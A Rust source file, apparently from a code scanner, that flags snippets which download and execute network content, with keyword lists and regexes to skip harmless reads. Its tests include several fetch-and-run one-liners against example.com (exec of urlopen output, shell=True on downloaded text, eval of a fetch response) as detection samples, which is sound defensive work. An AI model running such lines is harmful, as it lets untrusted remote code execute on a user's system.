//! Code that may run what it loads from the network, and code that only looks as if it did.

use std::sync::OnceLock;

use regex::Regex;

use super::Remote;

/// Signs that a text is run.
const RUNS: &[&str] = &[
    "exec(",
    "eval(",
    "eval ",
    "system(",
    "compile(",
    "loadstring",
    "load(",
    "include \"",
    "include '",
    "include(",
    "instance_eval",
    "new Function",
    "execSync",
    "popen",
    "subprocess",
    "assert(",
    "require(",
];

/// Those that leave no doubt.
const SURELY: &[&str] = &["eval(", "exec(", "execSync", "new Function", "spawn"];

/// Those that start a program.
const STARTS: &[&str] = &["system(", "popen", "Popen", "subprocess"];

/// Signs that what was loaded is put somewhere, or handed to what is started.
const KEEPS: &[&str] = &[
    "urlretrieve",
    "write",
    "getstore",
    "put_contents",
    "createWriteStream",
    "Tempfile",
    "tempfile",
    "copyfileobj",
    "input=",
    "stdin",
    "communicate",
    // Another name for what starts programs.
    "subprocess as",
    "from subprocess",
];

/// What has the name of a thing that runs code and only reads data: `json.load(`, `re.compile(`, `/x/.exec(`.
fn reads() -> &'static Regex {
    static READS: OnceLock<Regex> = OnceLock::new();
    READS.get_or_init(|| {
        Regex::new(
            r"(?x)
            \b(?:json|JSON|simplejson|orjson|ujson|toml|tomllib|csv)\.load\(
            | \b(?:yaml|YAML)\.safe_load\(
            | \bre\.compile\(
            | \bliteral_eval\(
            | \bplatform\.system\(
            | [^\s(,=]/[dgimsuvy]*\.exec\(",
        )
        .expect("a pattern of this file")
    })
}

/// A program started with literal words only, and the mention of the module for it.
fn starts_literally() -> &'static Regex {
    static LITERALLY: OnceLock<Regex> = OnceLock::new();
    LITERALLY.get_or_init(|| {
        Regex::new(
            r#"(?x)
            \bsubprocess\.(?:run|call|check_call|check_output|Popen)
                \(\s*\[\s*(?:(?:"[^"\\]*"|'[^'\\]*')\s*,?\s*)+\]\s*[,)]
            | \bos\.system\(\s*(?:"[^"\\]*"|'[^'\\]*')\s*\)
            | \bimport[\x20\t]+[\w\x20\t,.]+"#,
        )
        .expect("a pattern of this file")
    })
}

/// An address with its host.
fn hosts() -> &'static Regex {
    static HOSTS: OnceLock<Regex> = OnceLock::new();
    HOSTS.get_or_init(|| Regex::new(r#"https?://(\[::1\]|[^\s"'/:?#]*)"#).expect("a pattern of this file"))
}

/// Whether this host itself is asked, and no other.
fn asks_itself(code: &str) -> bool {
    let mut any = false;
    for found in hosts().captures_iter(code) {
        any = true;
        if !matches!(&found[1], "localhost" | "127.0.0.1" | "[::1]") {
            return false;
        }
    }
    any
}

/// How far what this code loads and runs can be trusted; nothing where it runs nothing of that. `texts` are its literals.
pub(super) fn run_from_the_network(code: &str, texts: &str) -> Option<Remote> {
    let rest = reads().replace_all(code, " ");
    let rest = if KEEPS.iter().any(|sign| code.contains(sign)) {
        rest
    } else {
        starts_literally().replace_all(&rest, " ").into_owned().into()
    };
    let has = |signs: &[&str]| signs.iter().any(|sign| rest.contains(sign));
    let surely = has(SURELY);
    if !has(RUNS) || !surely && rest.contains("require(") {
        return None;
    }
    if asks_itself(code) {
        // A service of the host's own; that its answer is run is worth a look.
        return (surely || has(STARTS)).then_some(Remote::Named);
    }
    let open = texts.contains("http://") || !texts.contains("https://");
    Some(if open { Remote::Open } else { Remote::Named })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn data_that_is_read_is_not_run() {
        for code in [
            "import json, urllib.request as u\nprint(json.load(u.urlopen('https://example.com/x'))['a'])",
            "import re, requests\nr = re.compile('a.c'); print(r.findall(requests.get('https://example.com').text))",
            "import subprocess, requests\nif requests.get('https://example.com/up').ok: subprocess.run(['systemctl', 'reload', 'app'], check=True)",
            "fetch('https://example.com').then(r => r.text()).then(t => console.log(/v([0-9.]+)/.exec(t)[1]))",
        ] {
            assert_eq!(run_from_the_network(code, code), None, "{code}");
        }
    }

    #[test]
    fn what_is_loaded_and_run_stays_found() {
        for code in [
            "import urllib.request as u; exec(u.urlopen('https://example.com/x').read())",
            "import subprocess, requests; subprocess.run(requests.get('https://example.com/x').text, shell=True)",
            "import subprocess, requests; subprocess.run(['sh'], input=requests.get('https://example.com/x').content)",
            "import requests\nimport subprocess\nsubprocess.run(requests.get('https://example.com/x').text, shell=True)",
            "import subprocess as s, requests; s.run(requests.get('https://example.com/x').text, shell=True)",
            "from subprocess import run; import requests; run(requests.get('https://example.com/x').text, shell=True)",
            "import os, urllib.request as u; u.urlretrieve('https://example.com/x', '/opt/x'); os.system('sh /opt/x')",
            "import pickle, requests; pickle.loads(x); pickle.load(requests.get('https://example.com/x', stream=True).raw)",
            "const r = await fetch('https://example.com/x'); eval(await r.text())",
        ] {
            assert_eq!(run_from_the_network(code, code), Some(Remote::Named), "{code}");
        }
    }

    #[test]
    fn its_own_services_are_trusted_but_for_code() {
        let asks = "import yaml, requests; print(yaml.load(requests.get('http://localhost:8080/x').text))";
        assert_eq!(run_from_the_network(asks, asks), None);
        let runs = "import requests; exec(requests.get('http://localhost:8080/x').text)";
        assert_eq!(run_from_the_network(runs, runs), Some(Remote::Named));
        let starts = "import os, requests; os.system(requests.get('http://localhost:8080/x').text)";
        assert_eq!(run_from_the_network(starts, starts), Some(Remote::Named));
        let other = "import requests; exec(requests.get('http://localhost.example.com/x').text)";
        assert_eq!(run_from_the_network(other, other), Some(Remote::Open));
    }
}
